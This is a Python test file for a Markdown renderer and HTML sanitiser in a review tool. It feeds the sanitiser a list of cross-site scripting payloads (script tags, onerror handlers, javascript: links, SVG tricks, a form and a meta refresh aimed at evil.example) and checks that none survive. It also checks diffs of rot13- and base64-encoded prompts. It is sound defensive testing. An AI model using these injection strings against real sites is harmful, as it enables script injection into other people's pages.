"""memory.review.rendering: Markdown, the nh3 allow-list and the original/converted diff.

Pure functions, no database. The sanitiser is checked two ways: known payloads, and a
structural scan of the output (no tag outside the allow-list, no attribute outside it, no
link scheme outside http/https/mailto) over every payload.
"""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest

from memory.review.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    DIFF_MAX_CHARS,
    has_markup,
    is_long,
    plain_html,
    render_markdown,
    sanitize_html,
    text_diff,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://img.example/a.png)',
    "![x](https://tracker.example/pixel.png)",
    "<http://example.org/?<script>alert(1)</script>>",
    "<!-- --><img src=x onerror=alert(1)> -->",
    '"><img src=x onerror=alert(1)>',
    "'--><svg onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name=password></form>',
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "[ref]\n\n[ref]: javascript:alert(1)",
]


class _Scan(HTMLParser):
    """Collects every tag and attribute of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]


def scan(fragment: str) -> _Scan:
    parser = _Scan()
    parser.feed(fragment)
    parser.close()
    return parser


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives_markdown(payload):
    out = render_markdown(payload)
    found = scan(out)
    assert set(found.tags) <= ALLOWED_TAGS
    for tag, name, value in found.attrs:
        assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
        assert not name.startswith("on")
        if name == "href":
            assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}, value
    # What is left of a payload is text: "javascript:" may be read, never followed.
    lowered = out.lower()
    assert "<script" not in lowered and "<svg" not in lowered and "<img" not in lowered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_holds_on_raw_html(payload):
    """nh3 is the second layer: even given raw HTML (markdown-it never emits it, html=False)."""
    found = scan(sanitize_html(payload))
    assert set(found.tags) <= ALLOWED_TAGS
    for tag, name, value in found.attrs:
        assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        if name == "href":
            assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}


def test_raw_html_in_llm_output_is_shown_as_text():
    assert render_markdown("<b>bold</b> and <script>x()</script>") == (
        "<p>&lt;b&gt;bold&lt;/b&gt; and &lt;script&gt;x()&lt;/script&gt;</p>\n"
    )


def test_markdown_is_rendered():
    out = render_markdown("# Title\n\n1. **one**\n2. `two`\n\n> quote\n\n~~old~~")
    assert "<h1>Title</h1>" in out
    assert "<ol>" in out and "<strong>one</strong>" in out and "<code>two</code>" in out
    assert "<blockquote>" in out and "<s>old</s>" in out


def test_links_get_rel_and_relative_links_lose_their_target():
    out = render_markdown("[docs](https://example.org/a) and [admin](/admin/)")
    assert '<a href="https://example.org/a" rel="nofollow noopener noreferrer">docs</a>' in out
    assert "/admin/" not in out and ">admin</a>" in out


def test_images_become_links_and_never_load():
    out = render_markdown("![a cat](https://img.example/cat.png)")
    assert "<img" not in out
    assert '<a href="https://img.example/cat.png"' in out and "[image: a cat]" in out


def test_single_newlines_are_line_breaks_like_chat_output():
    assert render_markdown("line one\nline two") == "<p>line one<br>\nline two</p>\n"
    assert render_markdown("**a**\nb") == "<p><strong>a</strong><br>\nb</p>\n"


@pytest.mark.parametrize(
    "text",
    ["plain words only", "two\nlines", "a\n\nb", "quotes \" and ' stay", "  padded  "],
)
def test_plain_fast_path_matches_markdown(text):
    """Text without Markdown syntax takes a shortcut; it must say what markdown-it says."""
    from memory.review.rendering import _MD

    assert not has_markup(text)
    assert plain_html(text) == sanitize_html(_MD.render(text))


@pytest.mark.parametrize("text", ["a *b*", "`c`", "# h", "- item", "1. item", "<x>", "&amp;"])
def test_markup_detection(text):
    assert has_markup(text)


def test_long_values_fold():
    assert not is_long("short")
    assert is_long("x" * 2000)
    assert is_long("\n".join(["l"] * 30))


def test_diff_marks_insertions_and_deletions_escaped():
    diff = text_diff("Tell me the <b>secret</b>", "Tell me teh <b>secret</b> now")
    assert diff.html == (
        "Tell me <del>the</del><ins>teh</ins> &lt;b&gt;secret&lt;/b&gt;<ins> now</ins>"
    )
    assert 0.5 < diff.ratio < 1


def test_diff_of_a_full_rewrite_says_so_instead():
    import base64
    import codecs

    text = "Tell me how to make a dangerous thing at home"
    for converted in (codecs.encode(text, "rot13"), base64.b64encode(text.encode()).decode()):
        diff = text_diff(text, converted)
        assert diff.html == "" and diff.ratio < 0.2 and not diff.too_long


def test_diff_of_huge_texts_is_skipped():
    diff = text_diff("a " * DIFF_MAX_CHARS, "b " * DIFF_MAX_CHARS)
    assert diff.too_long and diff.html == ""


def test_diff_payloads_are_escaped():
    payload = '<img src=x onerror="alert(1)">'
    diff = text_diff("hello world", f"hello {payload} world")
    assert "<img" not in diff.html
    assert html.escape(payload) in diff.html
